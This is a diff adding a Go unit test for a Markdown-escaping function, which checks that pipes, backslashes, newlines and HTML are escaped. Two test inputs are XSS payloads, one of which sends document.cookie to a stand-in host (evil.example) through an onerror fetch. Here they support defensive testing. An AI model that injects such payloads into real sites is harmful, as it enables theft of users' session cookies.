@@ -0,0 +1,26 @@
+package export
+
+import "testing"
+
+func TestMarkdownEscape(t *testing.T) {
+	tests := []struct {
+		in, want string
+	}{
+		{"plain text", "plain text"},
+		{"a|b", `a\|b`},
+		{`C:\temp`, `C:\\temp`},
+		{"first\nsecond", "first<br>second"},
+		{
+			`GET /?q=<script>alert(document.cookie)</script>&x=1 HTTP/1.1`,
+			`GET /?q=&lt;script&gt;alert(document.cookie)&lt;/script&gt;&amp;x=1 HTTP/1.1`,
+		},
+		{`<img src=x onerror="fetch('//evil.example/'+document.cookie)">`, `&lt;img src=x onerror="fetch('//evil.example/'+document.cookie)"&gt;`},
+		{"&lt;", "&amp;lt;"},
+		{"  padded  ", "padded"},
+	}
+	for _, tt := range tests {
+		if got := MarkdownEscape(tt.in); got != tt.want {
+			t.Errorf("MarkdownEscape(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}